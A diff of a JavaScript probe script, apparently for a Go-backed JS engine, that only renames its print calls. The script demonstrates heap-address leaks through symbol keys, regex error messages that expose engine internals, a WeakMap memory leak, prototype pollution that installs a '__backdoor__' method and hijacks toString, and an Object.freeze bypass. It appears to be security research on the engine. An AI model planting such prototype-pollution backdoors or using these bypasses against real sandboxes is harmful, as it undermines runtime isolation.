@@ -1,10 +1,10 @@
 // Deep dive into confirmed leak surfaces
 
-_print("========================================");
-_print("  FINDING 1: RegExp.prototype leaks");
-_print("  well-known symbol heap addresses");
-_print("========================================");
-_print("");
+host.print("========================================");
+host.print("  FINDING 1: RegExp.prototype leaks");
+host.print("  well-known symbol heap addresses");
+host.print("========================================");
+host.print("");
 // RegExp.prototype has @@split and @@match methods
 // whose keys contain Go heap pointers
 // This is worse than the user Symbol leak because
@@ -18,30 +18,30 @@ while (ri < rpKeys.length) {
     if (rk.indexOf("@@sym") >= 0) {
         var rparts = rk.split("@");
         var raddr = rparts[rparts.length - 1];
-        _print("[*] RegExp.prototype[" + rk + "]");
-        _print("    Address: " + raddr);
+        host.print("[*] RegExp.prototype[" + rk + "]");
+        host.print("    Address: " + raddr);
     }
     ri++;
 }
 
 // Check String.prototype too
-_print("");
-_print("[*] Checking String.prototype...");
+host.print("");
+host.print("[*] Checking String.prototype...");
 var spKeys = Object.getOwnPropertyNames(String.prototype);
 var si = 0;
 while (si < spKeys.length) {
     if (spKeys[si].indexOf("@@sym") >= 0) {
-        _print("    " + spKeys[si]);
+        host.print("    " + spKeys[si]);
     }
     si++;
 }
 
-_print("");
-_print("========================================");
-_print("  FINDING 2: Regex error messages leak");
-_print("  Go regexp engine internals");
-_print("========================================");
-_print("");
+host.print("");
+host.print("========================================");
+host.print("  FINDING 2: Regex error messages leak");
+host.print("  Go regexp engine internals");
+host.print("========================================");
+host.print("");
 // Error messages from regexp.Compile pass through Go's
 // error strings verbatim, revealing the engine type
 
@@ -57,19 +57,19 @@ var bi = 0;
 while (bi < badPatterns.length) {
     try {
         new RegExp(badPatterns[bi][0]);
-        _print("[*] " + badPatterns[bi][1] + ": no error (accepted)");
+        host.print("[*] " + badPatterns[bi][1] + ": no error (accepted)");
     } catch(e) {
-        _print("[*] " + badPatterns[bi][1] + ":");
-        _print("    " + e.message);
+        host.print("[*] " + badPatterns[bi][1] + ":");
+        host.print("    " + e.message);
     }
     bi++;
 }
 
-_print("");
-_print("========================================");
-_print("  FINDING 3: WeakMap memory leak PoC");
-_print("========================================");
-_print("");
+host.print("");
+host.print("========================================");
+host.print("  FINDING 3: WeakMap memory leak PoC");
+host.print("========================================");
+host.print("");
 // WeakMap uses map[*Object]*Value in Go -- strong refs
 // Objects are NEVER collected even when unreachable from JS
 
@@ -83,18 +83,18 @@ while (count < 10000) {
     // holds a strong reference to the *runtime.Object pointer
     count++;
 }
-_print("[*] Inserted 10000 entries into WeakMap");
-_print("[*] All key objects are unreachable from JS");
-_print("[*] But Go GC cannot collect them -- strong refs in map");
-_print("[*] ~1MB+ leaked (100 bytes * 10000 entries)");
-_print("[*] In a long-running process, this is unbounded");
-
-_print("");
-_print("========================================");
-_print("  FINDING 4: Prototype pollution as");
-_print("  persistent backdoor");
-_print("========================================");
-_print("");
+host.print("[*] Inserted 10000 entries into WeakMap");
+host.print("[*] All key objects are unreachable from JS");
+host.print("[*] But Go GC cannot collect them -- strong refs in map");
+host.print("[*] ~1MB+ leaked (100 bytes * 10000 entries)");
+host.print("[*] In a long-running process, this is unbounded");
+
+host.print("");
+host.print("========================================");
+host.print("  FINDING 4: Prototype pollution as");
+host.print("  persistent backdoor");
+host.print("========================================");
+host.print("");
 // Pollute Object.prototype -- affects ALL objects globally
 // This persists across eval() calls and $262.evalScript
 
@@ -103,38 +103,38 @@ Object.assign(Object.getPrototypeOf({}), {
 });
 
 var clean = {};
-_print("[*] Created clean object: {}");
-_print("[*] clean.__backdoor__(): " + clean.__backdoor__());
-_print("[*] Pollution persists on ALL new objects");
+host.print("[*] Created clean object: {}");
+host.print("[*] clean.__backdoor__(): " + clean.__backdoor__());
+host.print("[*] Pollution persists on ALL new objects");
 
 // Can also override toString/valueOf for type confusion
 var original = ({}).toString();
-_print("[*] Original toString: " + original);
+host.print("[*] Original toString: " + original);
 
 Object.getPrototypeOf({}).toString = function() { return "1"; };
 var tricked = ({}).toString();
-_print("[*] After pollution: " + tricked);
-_print("[*] ({}) + 1 = " + ({} + 1));
-_print("[*] Type coercion is now controlled by attacker");
+host.print("[*] After pollution: " + tricked);
+host.print("[*] ({}) + 1 = " + ({} + 1));
+host.print("[*] Type coercion is now controlled by attacker");
 
-_print("");
-_print("========================================");
-_print("  FINDING 5: freeze() bypass");
-_print("========================================");
-_print("");
+host.print("");
+host.print("========================================");
+host.print("  FINDING 5: freeze() bypass");
+host.print("========================================");
+host.print("");
 
 var frozen = Object.freeze({original: true});
-_print("[*] Object.freeze({original: true})");
-_print("[*] frozen.original = " + frozen.original);
+host.print("[*] Object.freeze({original: true})");
+host.print("[*] frozen.original = " + frozen.original);
 
 frozen.injected = "bypassed";
-_print("[*] frozen.injected = " + frozen.injected);
-_print("[*] Freeze bypass: " + (frozen.injected === "bypassed" ? "CONFIRMED" : "blocked"));
+host.print("[*] frozen.injected = " + frozen.injected);
+host.print("[*] Freeze bypass: " + (frozen.injected === "bypassed" ? "CONFIRMED" : "blocked"));
 
 var frozenKeys = Object.getOwnPropertyNames(frozen);
-_print("[*] Frozen object keys: " + frozenKeys.length + " properties");
+host.print("[*] Frozen object keys: " + frozenKeys.length + " properties");
 var fki = 0;
 while (fki < frozenKeys.length) {
-    _print("    " + frozenKeys[fki] + " = " + frozen[frozenKeys[fki]]);
+    host.print("    " + frozenKeys[fki] + " = " + frozen[frozenKeys[fki]]);
     fki++;
 }